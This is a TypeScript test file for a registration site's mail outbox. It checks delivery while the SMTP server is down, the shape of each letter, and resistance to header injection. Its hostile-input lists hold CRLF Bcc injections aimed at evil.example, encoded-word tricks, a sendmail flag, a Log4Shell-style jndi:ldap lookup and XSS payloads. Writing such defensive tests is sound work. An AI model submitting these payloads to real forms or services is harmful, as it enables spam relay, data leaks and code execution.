import { createServer, type Server } from "node:net";
import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
import { db } from "@/lib/platform/db/client";
import { freePort } from "@/lib/platform/db/embedded/free-port";
import { buildSession } from "@/lib/testing/factories/session";
import { openEdition } from "./edition";
import { type MailServer, startMailServer } from "./mail-server";
import { pooled, quantile } from "./many";
import { filledForm, formPage, openedBy, person, receiptPath, type Side, sentAs } from "./registration";
import { type Site, startSite } from "./site";
import { until } from "./until";

let site: Site;
let port: number;
let mail: MailServer | undefined;
beforeAll(async () => {
  port = await freePort();
  site = await startSite({
    env: { SMTP_URL: `smtp://127.0.0.1:${port}`, MAIL_FROM: "Desk <desk@example.org>" },
  });
});
afterEach(async () => {
  await mail?.stop();
  mail = undefined;
});
afterAll(() => site.stop());

const SIDES: Side[] = ["CN", "JP", "KR"];

async function signUp(count: number, more: Record<string, string> = {}) {
  const edition = await openEdition();
  const session = await buildSession({ editionId: edition.id });
  const empty = await filledForm(site.visitor(), edition.number, []);
  const sent = await pooled(count, 8, async (index) => {
    const form = openedBy(empty, person(SIDES[index % 3] ?? "CN", [session.id], more));
    const answer = await site.visitor(index).post(formPage(edition.number), form);
    receiptPath(answer);
    return { email: sentAs(form, "email"), millis: answer.millis };
  });
  return { edition, emails: sent.map(({ email }) => email), millis: sent.map(({ millis }) => millis) };
}

/** What a minute's waiting does: letters whose delivery failed are due again. */
async function laterOn(): Promise<void> {
  await db.$executeRaw`UPDATE outbox_mail SET next_at = clock_timestamp() WHERE state = 'QUEUED'`;
  await db.$executeRaw`SELECT pg_notify('outbox_filled', '')`;
}

const unsent = () => db.outboxMail.count({ where: { state: { not: "SENT" } } });

it("loses nothing and slows nobody while the mail server is down, and delivers when it is back", async () => {
  const { emails } = await signUp(20);
  await until(async () => (await db.outboxMail.count({ where: { attempts: 0 } })) === 0);
  expect(await db.outboxMail.count({ where: { state: "QUEUED" } })).toBe(20);
  mail = await startMailServer({ port });
  await laterOn();
  await until(async () => (await unsent()) === 0);
  expect(mail.received.flatMap(({ to }) => to).sort()).toEqual(emails.toSorted());
});

it("answers at once while a mail server takes the connection and says nothing", async () => {
  const silent = await deaf();
  const { millis } = await signUp(20);
  expect(await unsent()).toBe(20);
  silent.close();
  mail = await startMailServer({ port });
  await laterOn();
  await until(async () => {
    await laterOn();
    return (await unsent()) === 0;
  });
  expect(mail.received.length).toBeGreaterThanOrEqual(20);
  console.log(
    `with a silent mail server: median ${quantile(millis, 0.5)} ms, p95 ${quantile(millis, 0.95)} ms`,
  );
  // The silence would last until the delivery is given up, 45 seconds.
  expect(Math.max(...millis)).toBeLessThan(30_000);
});

it("writes letters that every mail program reads, to their recipient alone", async () => {
  mail = await startMailServer({ port });
  const { edition, emails } = await signUp(6);
  await until(async () => (await unsent()) === 0);
  expect(mail.received).toHaveLength(6);
  for (const { to, from, parsed, raw } of mail.received) {
    expect(to).toHaveLength(1);
    expect(emails).toContain(to[0]);
    expect(from).toBe("desk@example.org");
    expect([parsed.to].flat().flatMap((one) => one?.value.map(({ address }) => address))).toEqual(to);
    expect(parsed.cc ?? parsed.bcc).toBeUndefined();
    expect(raw).not.toMatch(/^(cc|bcc):/im);
    expect(parsed.text).toBeTruthy();
    expect(parsed.html).toContain("<!doctype html>");
    expect(parsed.attachments).toHaveLength(2);
    const calendar = parsed.attachments.find(({ contentType }) => contentType === "text/calendar");
    const pass = parsed.attachments.find(({ contentType }) => contentType === "image/png");
    expect(calendar?.content.toString()).toMatch(/^BEGIN:VCALENDAR\r\n.*BEGIN:VEVENT.*END:VCALENDAR\r\n$/s);
    expect(pass?.content.subarray(1, 4).toString()).toBe("PNG");
    const link = /http:\/\/localhost:\d+(\/\w\w\/pass\/\S+)/.exec(parsed.text ?? "");
    const { status, text } = await site.visitor().get(link?.[1] ?? "");
    expect(status).toBe(200);
    expect(text).toContain(`/editions/${edition.number}`);
  }
});

/** Accepted or refused, no address and no name writes a header or reaches anybody else. */
it("lets no name and no address write a header", async () => {
  mail = await startMailServer({ port });
  const edition = await openEdition();
  const empty = await filledForm(site.visitor(), edition.number, []);
  const before = await db.delegate.count();
  await pooled(HOSTILE_ADDRESSES.length, 6, async (index) => {
    const values = person("CN", [], { email: HOSTILE_ADDRESSES[index] ?? "" });
    const { status } = await site.visitor(index).post(formPage(edition.number), openedBy(empty, values));
    expect([200, 303]).toContain(status);
  });
  await pooled(HOSTILE_NAMES.length, 6, async (index) => {
    const position = HOSTILE_NAMES[index] ?? "";
    const values = person("CN", [], { latinFamily: position, latinGiven: position, position });
    const { status } = await site.visitor(index).post(formPage(edition.number), openedBy(empty, values));
    expect([200, 303]).toContain(status);
  });
  await until(async () => (await unsent()) === 0);
  const people = await db.delegate.findMany({ where: { editionId: edition.id }, select: { email: true } });
  expect(await db.delegate.count()).toBe(before + people.length);
  for (const { to, raw, parsed } of mail.received) {
    expect(people.map(({ email }) => email)).toContain(to[0]);
    expect(to).toEqual([expect.stringMatching(/^[^\s"<>(),:;@\\[\]]+@[a-z0-9.-]+$/)]);
    const headers = raw.slice(0, raw.indexOf("\r\n\r\n"));
    expect(headers).not.toMatch(/^(bcc|cc|x-evil|content-length):/im);
    expect(parsed.headers.has("bcc")).toBe(false);
  }
  const reached = mail.received.flatMap(({ to }) => to);
  expect(reached.filter((address) => /evil\.example$/.test(address))).toEqual([]);
});

const HOSTILE_ADDRESSES = [
  "a@example.org\r\nBcc: b@evil.example",
  "a@example.org\nBcc: b@evil.example",
  "a@example.org%0aBcc:b@evil.example",
  "a@example.org,b@evil.example",
  "a@example.org;b@evil.example",
  "a@example.org b@evil.example",
  "<a@example.org>b@evil.example",
  '"a@example.org"@evil.example\r\n',
  '"x\\"@example.org> BCC: <b@evil.example"@example.org',
  "a@example.org\0@evil.example",
  "a@example.org@evil.example",
  "a＠example.org@evil.example",
  "A <b@evil.example>",
  "undisclosed-recipients:;",
  "group: b@evil.example;@example.org",
  "a(b@evil.example)@example.org",
  "a@[127.0.0.1]",
  "a@evil.example\u2028@example.org",
  "\u202eb@evil.example\u202c@example.org",
  "=?utf-8?q?b=40evil.example=0a?=@example.org",
  "-oQ/tmp@example.org",
  "a@example.org\u0085Bcc: b@evil.example",
  "a'b+c=d@example.org",
  `$${"{jndi:ldap://evil.example/a}"}@example.org`,
  "a@exa mple.org",
  "a@example.org.",
  "@evil.example",
  "a@",
  `${"a".repeat(65)}@example.org`,
  `a@${"b".repeat(300)}.org`,
];

const HOSTILE_NAMES = [
  "Evil\r\nBcc: b@evil.example",
  "Evil\nX-Evil: yes",
  "Evil\r\n\r\n<script>alert(1)</script>",
  '"Evil" <b@evil.example>,',
  "=?utf-8?B?DQpCY2M6IGJAZXZpbC5leGFtcGxl?=",
  "Evil\u2028Bcc: b@evil.example",
  "Evil\u0000",
  "<img src=x onerror=alert(1)>",
];

/** Accepts connections and never says a word. */
function deaf(): Promise<Server & { close(): void }> {
  return new Promise((resolve) => {
    const open = new Set<import("node:net").Socket>();
    const server = createServer((socket) => {
      open.add(socket);
      socket.on("error", () => {});
    });
    const { close } = server;
    server.close = () => {
      for (const socket of open) socket.destroy();
      return close.call(server);
    };
    server.listen(port, "127.0.0.1", () => resolve(server));
  });
}
